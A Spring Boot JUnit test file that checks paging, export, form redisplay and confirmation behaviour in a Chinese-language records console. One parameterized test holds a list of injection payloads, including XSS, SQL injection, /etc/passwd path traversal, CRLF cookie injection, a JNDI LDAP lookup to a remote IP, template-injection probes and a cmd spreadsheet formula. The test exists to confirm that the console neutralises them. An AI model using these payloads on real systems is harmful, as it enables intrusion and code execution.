package cn.mentougou.consoleframe;

import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

import cn.mentougou.education.shared.Role;

import static org.assertj.core.api.Assertions.assertThat;

/** Lists and forms as they work without scripts. */
@SpringBootTest(classes = ConsoleSite.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class ListPageTests {

	private static final Pattern NEXT = Pattern.compile("rel=\"next\" href=\"([^\"]+)\"");

	@LocalServerPort
	private int port;

	private Visitor clerk;

	@BeforeEach
	void signIn() {
		this.clerk = new Visitor(this.port, Role.DISCLOSURE_CLERK);
	}

	@Test
	void listIsReadPageByPageWithItsFilter() throws Exception {
		int rows = 0;
		int pages = 0;
		String path = "/console/sample?title=&state=" + Visitor.encoded("办理中");
		while (path != null) {
			String page = this.clerk.get(path).body();
			rows += page.split("<td data-label=\"编号\">", -1).length - 1;
			assertThat(page).doesNotContain("已答复</span>");
			assertThat(page.contains("回到第一页")).isEqualTo(pages++ > 0);
			Matcher next = NEXT.matcher(page);
			path = next.find() ? next.group(1).replace("&amp;", "&") : null;
		}
		assertThat(rows).isEqualTo(80);
		assertThat(pages).isEqualTo(2);
	}

	@Test
	void placeThatWasTamperedWithIsTheFirstPage() throws Exception {
		assertThat(this.clerk.get("/console/sample?after=%27--").body()).contains("2026-001", "回到第一页");
	}

	@Test
	void wholeListIsExportedWithItsFilter() throws Exception {
		HttpResponse<String> file = this.clerk.get("/console/sample/export?title=&state=" + Visitor.encoded("已答复"));
		assertThat(file.body()).startsWith("\uFEFF编号,申请内容\r\n2026-003,");
		assertThat(file.body().lines()).hasSize(41);
		assertThat(file.headers().firstValue("Content-Disposition").orElseThrow()).startsWith("attachment;")
			.contains("filename*=UTF-8''");
		assertThat(file.headers().firstValue("Cache-Control")).contains("no-store");
	}

	@Test
	void formThatIsNotAcceptedKeepsWhatWasTyped() throws Exception {
		HttpResponse<String> page = this.clerk.post("/console/sample/new", Map.of("title", "\"><b>" + "长".repeat(40),
				"channel", "COUNTER", "receivedOn", "2026-06-08", "remark", "打字很久的备注", "paper", "true"));
		assertThat(page.statusCode()).isEqualTo(200);
		assertThat(page.body()).contains("没有保存", "value=\"&quot;&gt;&lt;b&gt;长", "打字很久的备注</textarea>",
				"value=\"COUNTER\" selected", "checked=\"checked\"", "aria-invalid=\"true\"", "title-error",
				"长度须在 0 至 40 个字之间");
		assertThat(page.body()).doesNotContain("<b>", "Exception", "java.");
	}

	@Test
	void fieldThatCannotBeReadIsExplainedAndTheOthersStay() throws Exception {
		HttpResponse<String> page = this.clerk.post("/console/sample/new",
				Map.of("title", "划片", "channel", "LETTER", "receivedOn", "not a day", "_paper", "on"));
		assertThat(page.body()).contains("请填写日期，例如", "value=\"not a day\"", "value=\"划片\"")
			.doesNotContain("Failed to convert");
	}

	@Test
	void refusalOfTheDeskStandsAboveTheForm() throws Exception {
		HttpResponse<String> page = this.clerk.post("/console/sample/new",
				Map.of("title", "重复", "channel", "LETTER", "receivedOn", "2026-06-08", "_paper", "on"));
		assertThat(page.body()).contains("关键词“重复”写了两次", "value=\"重复\"", "value=\"2026-06-08\"");
	}

	@Test
	void doneIsSaidOnceAfterTheRedirect() throws Exception {
		HttpResponse<String> answer = this.clerk.post("/console/sample/12", Map.of("version", "3"));
		assertThat(answer.statusCode()).isEqualTo(302);
		assertThat(answer.headers().firstValue("Location").orElseThrow()).endsWith("/console");
	}

	/** Shown again as typed, or refused; never run, never a failure of ours. */
	@ParameterizedTest
	@ValueSource(strings = { "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
			"' OR '1'='1' --", "1; DROP TABLE unit", "../../../../etc/passwd", "x\r\nSet-Cookie: role=LEADER",
			"${jndi:ldap://192.0.2.9/a}", "${7*7}", "__${7*7}__::.x", "#{T(java.lang.Runtime)}", "*{7*7}",
			"=cmd|' /C calc'!A0", "\u202Egpj.exe", "a\u0000b", "\uFEFF\u200B", "\uD83D\uDE00\uD83D\uDE00", "%n%n%s%x",
			"{0}{1}{", "'{'", "<!--", "]]>" })
	void attackThroughAnInputHasNoEffect(String attack) throws Exception {
		String input = Visitor.encoded(attack);
		for (HttpResponse<String> answer : List.of(this.clerk.get("/console/search?q=" + input),
				this.clerk.get("/console/sample?title=" + input + "&state=" + input + "&after=" + input),
				this.clerk.get("/console/sample/export?title=" + input + "&state=" + input),
				this.clerk.post("/console/sample/new",
						Map.of("title", attack, "channel", attack, "receivedOn", attack)),
				this.clerk.post("/console/sample/12", Map.of("version", attack)))) {
			assertThat(answer.statusCode()).isLessThan(500);
			assertThat(answer.headers().allValues("Set-Cookie")).noneMatch((cookie) -> cookie.contains("LEADER"));
			assertThat(answer.body()).doesNotContain("<script>alert", "<img src=x", "Exception")
				.doesNotContainPattern("[\">“]49[\"<”]");
		}
	}

	@Test
	void confirmationPostsWhatItAsksAbout() throws Exception {
		assertThat(this.clerk.get("/console/sample/12").body()).contains("作废后不能恢复",
				"<input type=\"hidden\" name=\"version\" value=\"3\">",
				"<form method=\"post\" action=\"/console/sample/12\">");
	}

}
